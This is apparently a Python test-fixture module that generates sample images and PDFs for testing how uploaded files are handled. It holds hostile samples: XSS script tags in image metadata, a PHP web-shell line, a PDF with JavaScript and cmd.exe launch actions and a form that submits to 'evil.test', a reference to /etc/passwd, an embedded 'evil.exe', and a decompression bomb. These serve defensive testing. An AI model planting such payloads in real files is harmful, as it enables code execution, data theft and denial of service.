"""Files as somebody might send them: honest ones, and those that hide something."""

from __future__ import annotations

import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, AttachedFileSpec, Dictionary, Name, Pdf, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo

SCRIPT = b"<script>alert(1)</script>"
TAIL = b"<html><?php system($_GET['x']); ?>" + SCRIPT


def picture(kind: str = "PNG", *, size: tuple[int, int] = (40, 30), mode: str = "RGB", **saved: object) -> bytes:
    written = BytesIO()
    Image.new(mode, size, 1 if mode in ("1", "L") else None).save(written, kind, **saved)
    return written.getvalue()


def jpeg_turned() -> bytes:
    """Lies on its side and says so; the place it was taken at stands in it too."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010E] = "улица Тайная, 5"
    return picture("JPEG", exif=exif, comment=SCRIPT)


def png_with_text() -> bytes:
    told = PngInfo()
    told.add_text("Comment", SCRIPT.decode())
    return picture(pnginfo=told)


def pdf(**options: object) -> bytes:
    return _saved(_blank(), **options)


def acting_pdf() -> bytes:
    """Scripts, actions, a link, a form field and another file, and HTML in every place that takes text."""
    made = _blank()
    page = made.pages[0].obj
    page.Contents = made.make_stream(b"q Q % " + SCRIPT)
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe")))
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.URI, URI=String("http://evil.test"))
    )
    page.Annots = Array([made.make_indirect(link)])
    page.Resources = Dictionary(
        XObject=Dictionary(
            Hidden=made.make_stream(
                b"", {"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": [0, 0, 1, 1], "/F": String("/etc/passwd")}
            )
        ),
        Properties=Dictionary(Hidden=Dictionary(Any=Dictionary(S=Name.SubmitForm, F=String("http://evil.test")))),
    )
    made.attachments["evil.exe"] = AttachedFileSpec(made, b"MZ evil")
    made.docinfo["/Title"] = SCRIPT.decode()
    return _saved(made)


def xfa_pdf() -> bytes:
    made = _blank()
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))
    return _saved(made)


def filled_form_pdf() -> bytes:
    """A field with its value drawn: what a person typed into a form."""
    made = _blank()
    drawn = made.make_stream(
        b"BT (typed) Tj ET", {"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": [0, 0, 50, 9]}
    )
    field = made.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), V=String("typed"), F=4,
            Rect=[10, 10, 60, 19], AP=Dictionary(N=drawn),
        )
    )  # fmt: skip
    made.pages[0].obj.Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]))
    return _saved(made)


def pdf_that_swells(*, megabytes: int = 100) -> bytes:
    """A few kilobytes whose catalogue unpacks to a hundred megabytes."""
    inside = (
        b"2 0 3 34 4 78\n<< /Pages 3 0 R /Type /Catalog >>\n<< /Count 1 /Kids [ 4 0 R ] /Type /Pages >>\n"
        b"<< /MediaBox [ 0 0 612 792 ] /Parent 3 0 R /Resources << >> /Type /Page >>\n" + b" " * megabytes * 1024**2
    )
    packed = zlib.compress(inside, 9)
    head = b"%PDF-1.5\n"
    objects = b"1 0 obj\n<< /Type /ObjStm /Length %d /Filter /FlateDecode /N 3 /First 14 >>\nstream\n" % len(packed)
    body = head + objects + packed + b"\nendstream\nendobj\n"
    rows = [(0, 0, 0), (1, len(head), 0), (2, 1, 0), (2, 1, 1), (2, 1, 2), (1, len(body), 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([index]) for kind, place, index in rows)
    return (
        body
        + b"5 0 obj\n<< /Type /XRef /Length %d /W [ 1 4 1 ] /Root 2 0 R /Size 6 >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)
    )


def locked_pdf(*, password: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=password))


def pages_pdf(count: int) -> bytes:
    made = Pdf.new()
    for _ in range(count):
        made.add_blank_page(page_size=(50, 50))
    return _saved(made)


def _blank() -> Pdf:
    made = Pdf.new()
    made.add_blank_page(page_size=(200, 200))
    return made


def _saved(made: Pdf, **options: object) -> bytes:
    written = BytesIO()
    made.save(written, **options)
    return written.getvalue()
